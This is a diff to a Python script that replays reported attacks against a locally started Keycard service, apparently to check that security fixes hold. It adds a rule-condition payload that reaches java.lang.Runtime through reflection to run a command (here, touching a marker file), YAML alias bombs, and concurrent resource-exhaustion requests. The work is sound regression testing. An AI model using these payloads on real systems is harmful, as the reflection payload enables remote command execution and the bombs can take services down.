@@ -1,5 +1,5 @@
 #!/usr/bin/env python3
-"""Replays the attacks of issue 16 against a running Keycard jar; see bench/attacks.sh.
+"""Replays the attacks of issues 14, 15 and 16 against a running Keycard jar; see bench/attacks.sh.
 
 Starts the service itself (so that it can start it again after an attack killed it), runs each
 attack and prints one line per attack: status(es), time, answer size, whether the JVM is alive.
@@ -33,7 +33,8 @@ def start():
     log_file = open(LOG, "ab")
     service = subprocess.Popen(
         ["java", *JAVA_OPTS, f"-Dquarkus.http.host={HOST}", f"-Dquarkus.http.port={PORT}",
-         "-jar", JAR],
+         # caller rules on, for the attacks of issues 14 and 15 (those of 16 send none)
+         "-Dkeycard.rules.adhoc=true", "-jar", JAR],
         stdout=log_file, stderr=subprocess.STDOUT)
     for _ in range(240):
         if service.poll() is not None:
@@ -358,11 +359,155 @@ def log_forging(num):
            "-", 0, 0, f"trace lines={traces} other lines={len(others)} of {len(run)}")
 
 
+# ---- issues 14 and 15: caller rules ----
+
+MARKER = "/tmp/keycard-issue14-marker"
+
+
+def exploit_14():
+    """The request of issue 14: a rule whose condition hides Runtime.exec in a string literal."""
+    inner = ("''[" + '\\"\\".getClass().forName(\\"java.lang.Runtime\\")'
+             '.getMethod(\\"getRuntime\\").invoke(null).exec(\\"touch ' + MARKER + '\\")'
+             + "],'")
+    when = '["' + inner + '"[0]] != null'
+    return json.dumps({"input": "docker run nginx", "ruleset": "baseline",
+                       "rules": [{"id": "X", "title": "t", "severity": "low", "message": "m",
+                                  "when": when}]})
+
+
+def env_run(n):
+    return "docker run " + " ".join(f"-e V{i}=x" for i in range(n)) + " nginx"
+
+
+def rule(for_each, when, message="m", **extra):
+    r = {"id": "X-1", "title": "t", "severity": "low", "when": when, "message": message}
+    if for_each:
+        r["for_each"] = for_each
+    r.update(extra)
+    return r
+
+
+FOUR_PROJECTIONS = ("($ in c.environment if $.name == item.name).size()"
+                    " + ($ in c.environment).size() + ($.value in c.environment).size()"
+                    " + ($.name in c.environment).size() < 0")
+
+
+def concurrent_with_probe(num, name, path, body, ctype, callers=8):
+    """callers copies of one request at once while a plain evaluate and /q/health/ready are
+    polled; reports the attack's statuses and the worst probe time."""
+    if ONLY and num.split(".")[0] not in ONLY:
+        return
+    ensure_running()
+    if isinstance(body, (dict, list)):
+        body = json.dumps(body)
+    if isinstance(body, str):
+        body = body.encode()
+    results = []
+    t = time.monotonic()
+    threads = [threading.Thread(target=lambda: results.append(request("POST", path, body, ctype)))
+               for _ in range(callers)]
+    for th in threads:
+        th.start()
+    probes = []
+    while any(th.is_alive() for th in threads):
+        s1, _, p1 = request("POST", "/v1/evaluate", b"docker run --privileged nginx", "text/plain",
+                            timeout=30)
+        s2, _, p2 = request("GET", "/q/health/ready", timeout=30)
+        probes.append((s1, s2, max(p1, p2)))
+        time.sleep(0.2)
+    for th in threads:
+        th.join()
+    secs = time.monotonic() - t
+    statuses = collections.Counter(r[0] for r in results)
+    worst = max((p[2] for p in probes), default=0)
+    probe_statuses = collections.Counter(f"{p[0]}/{p[1]}" for p in probes)
+    report(num, name, dict(statuses), secs, max((r[1] for r in results), default=0),
+           f"probes={dict(probe_statuses)} worst-probe={worst:.2f}s")
+
+
+def alias_bomb_rules():
+    y = ["- id: X-1", "  title: t", "  severity: low", "  when: 'true'", "  message: m",
+         "  references: &l0 [" + ", ".join(["x"] * 2000) + "]"]
+    for i in range(1, 6):
+        y.append(f"  r{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 4) + "]")
+    return "\n".join(y) + "\n"
+
+
+def aliased_examples():
+    big = env_run(19_990)
+    return ("id: X-1\ntitle: t\nseverity: low\nmessage: m\nfor_each: environment\n"
+            "when: '" + FOUR_PROJECTIONS.replace("'", "''") + "'\n"
+            "examples:\n  fail:\n    - &big \"" + big + "\"\n" + "    - *big\n" * 9
+            + "  pass: [docker run nginx]\n")
+
+
+def shutdown_while_busy(num):
+    """SIGTERM while eight heavy rule checks run: how long until the JVM has exited."""
+    global service
+    if ONLY and num not in ONLY:
+        return
+    ensure_running()
+    body = json.dumps({"input": env_run(1500), "rules": [
+        rule("environment", "item.name != ''", fix=[{"remove_item": "environment"}])]}).encode()
+    threads = [threading.Thread(target=lambda: request("POST", "/v1/fix", body,
+                                                       "application/json", timeout=60))
+               for _ in range(8)]
+    for th in threads:
+        th.start()
+    time.sleep(1.0)
+    t = time.monotonic()
+    service.terminate()
+    try:
+        service.wait(60)
+        secs = time.monotonic() - t
+        print(f"{num:<4} {'SIGTERM with eight fix proofs running':<62} exited in {secs:.2f}s"
+              f" status={service.returncode}", flush=True)
+    except subprocess.TimeoutExpired:
+        print(f"{num:<4} {'SIGTERM with eight fix proofs running':<62} still running after 60 s",
+              flush=True)
+        service.kill()
+        service.wait()
+    for th in threads:
+        th.join()
+    start()
+
+
+def issues_14_and_15():
+    if os.path.exists(MARKER):
+        os.remove(MARKER)
+    single("14", "issue 14's exploit as a caller rule, /v1/evaluate", "POST", "/v1/evaluate",
+           exploit_14(), "application/json")
+    print(f"     marker file {MARKER} exists: {os.path.exists(MARKER)}", flush=True)
+    concurrent_with_probe(
+        "15.1", "4 projections in for_each over 19,990 -e, x8 at once", "/v1/evaluate",
+        {"input": env_run(19_990), "rules": [rule("environment", FOUR_PROJECTIONS)]},
+        "application/json")
+    concurrent_with_probe(
+        "15.2", "rule check, 209 KB example x10 via aliases, x8 at once", "/v1/rulesets/check",
+        aliased_examples(), "application/yaml")
+    single("15.3", "alias bomb in a rule file (20 aliases), /v1/rulesets/check", "POST",
+           "/v1/rulesets/check", alias_bomb_rules(), "application/yaml")
+    single("15.3b", "the same bomb as rules YAML text, /v1/evaluate", "POST", "/v1/evaluate",
+           {"input": "docker run nginx", "rules": alias_bomb_rules()}, "application/json")
+    single("15.4", "message of 16 projections over 2,000 -e (61 KB), /v1/evaluate", "POST",
+           "/v1/evaluate",
+           {"input": env_run(2000),
+            "rules": [rule("environment", "true", "@{($.name in c.environment)}" * 16)]},
+           "application/json")
+    concurrent_with_probe(
+        "15.5", "remove_item environment over 1,500 -e, /v1/fix, x4 at once", "/v1/fix",
+        {"input": env_run(1500),
+         "rules": [rule("environment", "item.name != ''", fix=[{"remove_item": "environment"}])]},
+        "application/json", callers=4)
+    shutdown_while_busy("15.6")
+
+
 def main():
-    print(f"# Keycard attacks (issue 16) on {HOST}:{PORT}, JVM options: {' '.join(JAVA_OPTS)}",
-          flush=True)
+    print(f"# Keycard attacks (issues 14, 15, 16) on {HOST}:{PORT}, JVM options:"
+          f" {' '.join(JAVA_OPTS)} -Dkeycard.rules.adhoc=true", flush=True)
     start()
     try:
+        issues_14_and_15()
         single("1", "Dockerfile ARG doubling x40 (files.Dockerfile), /v1/evaluate", "POST",
                "/v1/evaluate", dockerfile_arg_doubling(), "application/json")
         single("2", "anchored list of 1,000 reused by 99 services, /v1/evaluate", "POST",
